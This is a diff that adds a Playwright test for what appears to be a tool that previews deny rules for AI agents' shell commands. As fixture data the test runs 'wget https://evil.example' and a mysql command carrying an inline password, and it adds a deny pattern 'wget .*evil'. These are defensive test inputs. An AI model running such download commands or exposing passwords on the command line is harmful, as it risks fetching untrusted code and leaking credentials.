@@ -47,6 +47,28 @@ def test_a_deny_rule_with_a_preview(page: Page, hub: HubProcess) -> None:
         expect(rule).to_contain_text(text)
 
 
+def test_a_preview_says_which_events_nobody_can_decide_again(page: Page, hub: HubProcess) -> None:
+    secret = "hooks:\n  - {id: no-secret, on: tool.before, when: {input: {command: {matches: hunter2}}}, then: {deny: No.}}\n"
+    before = (hub.workspace / "hookline.yaml").read_text(encoding="utf-8")
+    hub.write_hooks(secret)
+    hub.run_commands("echo one", "mysql -phunter2zz", "wget https://evil.example")
+    hub.write_hooks(before)
+    open_form(page, hub)
+    page.get_by_label("Matcher", exact=True).fill("^bash$")
+    page.get_by_role("button", name="Add input matcher").click()
+    page.get_by_label("Field 1").fill("command")
+    page.get_by_label("Pattern 1").fill("wget .*evil")
+    page.get_by_role("button", name="Preview against").click()
+    preview = page.get_by_role("region", name="Preview")
+    expect(preview.get_by_text("1 event cannot be decided again")).to_be_visible(timeout=WAIT)
+    counts = dict(zip(preview.locator("dt").all_inner_texts(), preview.locator("dd").all_inner_texts(), strict=True))
+    assert (counts["loosened"], counts["undecided"]) == ("0", "1")
+    rows = preview.get_by_role("listitem").all_inner_texts()
+    assert [row.split()[:3] for row in rows if "mysql" in row] == [["deny", "→", "undecided"]]
+    assert [row.split()[:3] for row in rows if "wget" in row] == [["silent", "→", "deny"]]
+    assert find_violations(page) == []
+
+
 def test_the_script_of_the_documentation(page: Page, hub: HubProcess) -> None:
     open_form(page, hub)
     page.get_by_label("Event type").select_option("PreToolUse")
